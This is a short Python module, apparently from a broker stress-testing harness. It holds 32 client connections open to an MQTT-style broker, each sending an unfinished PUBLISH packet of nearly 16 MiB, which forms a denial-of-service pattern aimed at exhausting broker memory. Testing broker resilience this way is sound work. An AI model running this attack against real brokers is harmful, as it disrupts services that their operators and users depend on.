# SPDX-License-Identifier: Apache-2.0
import contextlib
import time
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

CLIENTS, ANNOUNCED = 32, (16 << 20) - 1024


def unfinished(broker: Broker) -> Generator[None, None, None]:
    """32 PUBLISHes of 16 MiB that never end, held open"""
    head = packets.beginning(0x30, ANNOUNCED) + packets.text("attack/u")
    most = head + bytes(ANNOUNCED - len(head) - 1024)
    yield
    while True:
        with contextlib.ExitStack() as stack:
            for client in [stack.enter_context(broker.connect()) for _ in range(CLIENTS)]:
                client.send(most, 0.2)
            time.sleep(1.0)
        yield
